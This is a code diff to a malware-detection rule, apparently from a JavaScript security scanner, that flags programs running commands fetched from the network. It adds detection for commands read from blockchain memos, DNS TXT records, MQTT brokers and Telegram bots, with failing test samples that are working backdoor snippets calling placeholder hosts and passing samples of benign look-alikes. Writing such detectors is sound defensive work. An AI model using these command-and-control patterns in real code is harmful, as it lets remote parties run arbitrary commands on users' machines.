@@ -1,8 +1,9 @@
-import { isOfStart, isQuoted } from '../src/define/given.js';
-import { isOfOwnPage } from '../src/define/pages.js';
-import { functionAround, isSameVariable } from '../src/define/variables.js';
-import { codeArguments, defineRule, fixedTargetOf, spelling, step, stepsOf } from '../src/define.js';
-import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
+import { askedBy, kindOf } from '../src/define/askers.js';
+import { placeOf } from '../src/define/entrusted.js';
+import { isQuoted } from '../src/define/given.js';
+import { codeArguments, defineRule, fixedTargetOf, step, stepsOf } from '../src/define.js';
+import type { Call, FileContext, Label } from '../src/types.js';
+import { channelOf, isPublicRecord } from '../src/vocabulary/clients.js';
 import { isServed, MESSAGE } from '../src/vocabulary/served.js';
 
 export default defineRule({
@@ -18,6 +19,8 @@ export default defineRule({
       template: 'Puts what it fetched with {source} into code it runs with {sink}',
       command: 'Fetches a command with {source} and hands it to {sink}',
       orders: 'Fetches a command with {source} from an address fixed in its code, and hands it to {sink}',
+      record: 'Hands {sink} a command out of a public record that it reads with {source}',
+      channel: 'Does whatever comes over {source}, which it opens by itself, with {sink}',
       relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
       program: 'Starts a program that what it fetched with {source} names, with {sink}',
       packages: 'Installs packages that {source} names while it is being installed',
@@ -33,6 +36,8 @@ export default defineRule({
       template: 5,
       command: 12,
       orders: 13.5,
+      record: 13.5,
+      channel: 12,
       relayed: 4,
       program: 5,
       packages: 9,
@@ -123,8 +128,36 @@ export default defineRule({
         title: 'a command is fetched',
         code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
       },
+      {
+        title: 'what somebody noted in a chain is a command',
+        code: `const { Connection, PublicKey } = require('@solana/web3.js'), { exec } = require('child_process');\nconst chain = new Connection('https://rpc.invalid');\nsetInterval(async () => {\n  const [last] = await chain.getSignaturesForAddress(new PublicKey('1'.repeat(32)), { limit: 1 });\n  exec(last.memo.replace(/^\\[\\d+\\] /, ''));\n}, 9000);`,
+      },
+      {
+        title: 'a record of a name is one',
+        code: `const dns = require('dns').promises, { execSync } = require('child_process');\n(async () => execSync((await dns.resolveTxt('task.stage.invalid')).flat().join('')))();`,
+      },
+      {
+        title: 'a broker’s messages pick what is done with them',
+        code: `const mqtt = require('mqtt'), { execSync } = require('child_process'), fs = require('fs');\nconst acts = { run: line => execSync(line), put: ({ path, text }) => fs.writeFileSync(path, text) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  acts[act]?.(of);\n});`,
+      },
+      {
+        title: 'a bot of its own does what it is written',
+        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf('123456789:AAaaBBbbCCccDDddEEeeFFffGGggHHhhIIi');\nbot.on('text', chat => exec(chat.message.text, (error, out) => chat.reply(out)));`,
+      },
     ],
     passes: [
+      {
+        title: 'a bot starts one fixed program when it is asked',
+        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.command('deploy', chat => exec('git pull', () => chat.reply('done')));`,
+      },
+      {
+        title: 'messages pick what is worked out of them',
+        code: `const mqtt = require('mqtt');\nconst acts = { ping: () => 'pong', sum: list => list.reduce((a, b) => a + b, 0) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  line.publish('answers', String(acts[act]?.(of)));\n});`,
+      },
+      {
+        title: 'a record of a name is compared',
+        code: `const dns = require('dns').promises, { execFileSync } = require('child_process');\nexports.verify = async name => (await dns.resolveTxt(name)).flat().includes(execFileSync('git', ['rev-parse', 'HEAD']).toString());`,
+      },
       {
         title: 'a test starts a server with a hole in it',
         files: {
@@ -246,6 +279,8 @@ function messageOf(
   // Words out of a request for a program that is fixed: `cmd /c code <file>` opens an editor.
   if (isServed(detail) && arg !== args[0]) return undefined;
   // What an API client of one file answers reaches many parameters of others, few of them for sure.
+  if (line && isPublicRecord(detail)) return 'record';
+  if (line && isOwnChannel(context, label)) return 'channel';
   if (line && origin.file !== context.file) return 'relayed';
   if (isServed(detail)) return line ? 'ordered' : undefined;
   // One that is told a program alone may look for a browser; who is told its words as well does what it is told.
@@ -257,6 +292,12 @@ function messageOf(
 /** A playground is sent code as it is; who encodes it does not want it to be seen on its way. */
 function servedAs({ through }: Label): 'served' | 'smuggled' {
   return through.some(({ says }) => says.startsWith('decodes ')) ? 'smuggled' : 'served';
+}
+
+/** A channel to a place, or by the name of a bot, that the code itself has. */
+function isOwnChannel(context: FileContext, { detail, origin }: Label): boolean {
+  const channel = channelOf(detail) ?? (detail === MESSAGE ? 'WebSocket' : undefined);
+  return channel !== undefined && origin.file === context.file && placeOf(context, channel) !== undefined;
 }
 
 /**
@@ -282,119 +323,6 @@ function commandArguments({ textsOf, textsWithin, namesOf }: FileContext, { args
     )
     ? [words]
     : [];
-}
-
-/** A module loader runs what its caller names; whose address nobody in the package says, the package did not choose it. */
-function kindOf(context: FileContext, sink: Call, label: Label): 'loader' | 'page' | 'code' {
-  if (label.origin.file !== context.file) {
-    const entries = entriesOf(context, label);
-    return entries.length > 0 && entries.every(([address]) => address && context.isHandedIn(address))
-      ? 'loader'
-      : 'code';
-  }
-  const made = askedBy(context, label);
-  const opened = context.named('XMLHttpRequest().open');
-  // A call of a function of another file, which asks and runs what it was answered.
-  const { arguments: given = [] } = label.origin.node as { arguments?: readonly AnyNode[] };
-  const asked = made.length === 0 ? given.slice(0, 1) : made.flatMap(({ args }) => args.slice(0, 1));
-  const addresses = made.some(({ name }) => name === 'XMLHttpRequest')
-    ? opened.flatMap(({ args }) => args.slice(1, 2))
-    : asked;
-  if (addresses.length === 0) return 'code';
-  if (addresses.every(address => isOfOwnPage(context, address))) return 'page';
-  // A page's loader takes its addresses from wherever; a program that asks with a client knows whom it asks.
-  const isPage = made.length > 0 && made.every(({ name }) => OF_PAGE.test(name));
-  const isLoader = isOfLoader(context, sink);
-  const isHere = (address: Call['node']): boolean => isWithin(context, address, made);
-  const isOpen = (address: Call['node']): boolean =>
-    context.isHandedIn(address) ||
-    ((isPage || isLoader) && isNowhere(context, address)) ||
-    (isLoader && isHere(address));
-  if (addresses.every(isOpen)) return 'loader';
-  return isPage && addresses.every(isHere) ? 'page' : 'code';
-}
-
-/** Where an answer that another file asked for comes into this one: arguments of calls that give it and were not given it. */
-function entriesOf({ nodes, labelsOf }: FileContext, { origin }: Label): readonly (readonly AnyNode[])[] {
-  const holds = (node: AnyNode): boolean =>
-    node.type !== 'SpreadElement' &&
-    labelsOf(node).some(label => label.kind === 'remote' && label.origin.node === origin.node);
-  return (nodes('CallExpression') as unknown as { callee: AnyNode; arguments: AnyNode[] }[])
-    .filter(
-      call =>
-        holds(call as unknown as AnyNode) &&
-        !call.arguments.some(holds) &&
-        !(call.callee.type === 'MemberExpression' && holds(call.callee.object)),
-    )
-    .map(call => call.arguments);
-}
-
-/** The calls that asked for what a label is of; a message may have come over any connection of the file. */
-function askedBy({ calls }: FileContext, { detail, origin }: Label): readonly Call[] {
-  return calls('network').filter(({ name, node }) =>
-    detail === MESSAGE ? /^(?:WebSocket|EventSource|ws(?:\.WebSocket)?)$/.test(name) : node === origin.node,
-  );
-}
-
-/** Clients that there are in pages alone. */
-const OF_PAGE = /^(?:XMLHttpRequest$|(?:\$|jQuery)\.)/;
-
-/** An address of which nothing is known: nobody spells it out, and it is neither read nor decoded here. */
-function isNowhere({ textsWithin, labelsOf }: FileContext, address: Call['node']): boolean {
-  return (
-    textsWithin(address).every(isUnknown) && labelsOf(address).every(label => label.kind === 'page' || isOfStart(label))
-  );
-}
-
-/**
- * An address without a host is one of the page's own server: the file beside it that a compiler of another language
- * names, the path that a function of its run-time is given. What was fetched may be what is fetched next.
- */
-function isWithin({ textsWithin, labelsOf }: FileContext, address: Call['node'], made: readonly Call[]): boolean {
-  return (
-    textsWithin(address).every(text => !/\/\/|^[a-z]+:/i.test(text)) &&
-    labelsOf(address).every(
-      label =>
-        label.kind === 'page' ||
-        label.kind === 'file' ||
-        isOfStart(label) ||
-        (label.kind === 'remote' && made.some(({ node }) => node === label.origin.node)),
-    )
-  );
-}
-
-/**
- * `new SourceTextModule(code, { identifier: url, … })`, `eval(code + '//# sourceURL=' + url)`: what stands in for the
- * engine's own loader of modules, which calls each by the address it has it from.
- */
-function isOfLoader(context: FileContext, { name, node, args: [, options] }: Call): boolean {
-  if (/(?:^|\.)SourceTextModule$/.test(name)) return options !== undefined && isNamed(context, options, 0);
-  const around = functionAround(context, node);
-  return (
-    around !== undefined &&
-    /\/\/# sourceURL=(?:\$\{|['"`]\s{0,5}[+,]|['"`]\.concat)/.test(spelling(context.file, around))
-  );
-}
-
-/** Options that say what the module is called: spelled out, put into a variable, or spread into others. */
-function isNamed(context: FileContext, options: AnyNode, level: number): boolean {
-  if (level > 3) return false;
-  if (options.type === 'Identifier') {
-    return (context.nodes('VariableDeclarator') as unknown as { id: AnyNode; init: AnyNode | null }[]).some(
-      ({ id, init }) => init && isSameVariable(context, id, options) && isNamed(context, init, level + 1),
-    );
-  }
-  if (options.type !== 'ObjectExpression') return false;
-  return (options.properties as AnyNode[]).some(property =>
-    property.type === 'SpreadElement'
-      ? isNamed(context, property.argument, level + 1)
-      : property.type === 'Property' && property.key.type === 'Identifier' && property.key.name === 'identifier',
-  );
-}
-
-/** No host and no path worth the name. */
-function isUnknown(text: string): boolean {
-  return !/[\w.-]{4}/.test(text.replace(/^https?:/, ''));
 }
 
 /** Code with a blank filled in: `return function <name>() { … }`. The blank is seldom more than a name. */
